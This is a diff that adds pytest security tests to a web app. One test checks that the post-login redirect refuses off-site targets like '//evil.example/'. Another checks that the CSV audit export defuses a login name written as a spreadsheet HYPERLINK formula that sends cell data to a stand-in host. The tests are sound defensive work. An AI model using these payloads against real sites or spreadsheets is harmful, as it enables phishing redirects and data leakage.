@@ -327,3 +327,32 @@ def test_audit_times_without_a_zone_are_utc_in_the_api_and_local_on_the_page(ser
             "/admin/audit", params={"action": "search", "since": "2026-01-01T08:00"}
         )
         assert "q: đất đai" not in later.text
+
+
+@pytest.mark.parametrize(
+    ("asked", "sent_to"),
+    [
+        ("/items/x?q=dat", "/items/x?q=dat"),
+        ("//evil.example/", "/"),
+        ("/\\evil.example/", "/"),
+        ("https://evil.example/", "/"),
+    ],
+)
+def test_after_login_only_a_path_of_this_site_is_followed(live_api, asked, sent_to):
+    with httpx.Client(base_url=live_api.url) as browser:
+        csrf = re.search(r'name="csrf" value="([^"]+)"', browser.get("/login").text).group(1)
+        response = browser.post(
+            "/login",
+            data={"username": "reviewer1", "password": ADMIN_PASSWORD, "csrf": csrf, "next": asked},
+        )
+    assert response.status_code == 303
+    assert response.headers["location"] == sent_to
+
+
+def test_a_login_name_written_as_a_formula_is_exported_as_text(server):
+    with client(server) as browser:
+        login(browser, '=HYPERLINK("http://x.example/?"&A1,"xem")', "bat-ky-mat-khau")
+    with client(server, ADMIN_TOKEN) as admin:
+        exported = admin.get("/api/audit/export", params={"format": "csv", "action": "login."})
+    rows = list(csv.DictReader(io.StringIO(exported.text)))
+    assert [r["actor"] for r in rows] == ['\'=HYPERLINK("http://x.example/?"&A1,"xem")']
